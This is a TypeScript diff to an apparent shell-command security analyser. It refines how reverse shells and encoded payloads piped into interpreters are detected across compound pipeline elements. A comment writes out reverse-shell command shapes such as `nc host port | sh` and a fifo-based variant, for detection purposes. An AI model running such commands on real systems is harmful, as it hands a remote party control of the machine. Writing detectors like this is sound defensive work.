@@ -49,20 +49,23 @@ function executedPath(command: SimpleCommand): string | null {
 function shapes(analysis: ShellAnalysis): string[] {
   const found: string[] = [];
   for (const pipeline of analysis.pipelines) {
-    const members = pipeline.commands.map((i) => analysis.commands[i]);
-    const stdinInterpreters = members.filter((c) => {
+    const members = pipeline.commands.map((i) => analysis.commands[i]!);
+    // Commands of one compound element (`{ a; b; } | c`) are not piped into each other: compare elements.
+    const element = (k: number): number => pipeline.elements[k]!;
+    const stdinInterpreters = members.flatMap((c, k) => {
       const { name, args } = program(c);
       const interpreter = interpreterName(name);
-      return interpreter !== null && codeSource(interpreter, args).kind === 'stdin';
+      return interpreter !== null && codeSource(interpreter, args).kind === 'stdin' ? [{ command: c, k }] : [];
     });
     members.forEach((source, k) => {
       const decoder = decodes(source);
-      const later = stdinInterpreters.find((c) => members.indexOf(c) > k);
-      if (decoder && later) found.push(`\`${decoder} | ${program(later).name}\` runs a hidden, encoded program`);
+      const later = stdinInterpreters.find((s) => element(s.k) > element(k));
+      if (decoder && later) found.push(`\`${decoder} | ${program(later.command).name}\` runs a hidden, encoded program`);
     });
     // `nc host port | sh`, or `cat fifo | sh -i | nc host port > fifo`: either way a remote host drives the shell.
-    const net = members.map((c) => program(c).name).find((n) => n !== null && NETWORK_PIPES.has(n));
-    if (net && stdinInterpreters.length > 0) found.push(`\`${net}\` piped with \`${program(stdinInterpreters[0]).name}\` is a reverse shell: a remote host types the commands`);
+    const netAt = members.findIndex((c) => NETWORK_PIPES.has(program(c).name ?? ''));
+    const shell = netAt < 0 ? undefined : stdinInterpreters.find((s) => element(s.k) !== element(netAt));
+    if (shell) found.push(`\`${program(members[netAt]!).name}\` piped with \`${program(shell.command).name}\` is a reverse shell: a remote host types the commands`);
   }
   for (const command of analysis.commands) {
     const { name, args } = program(command);
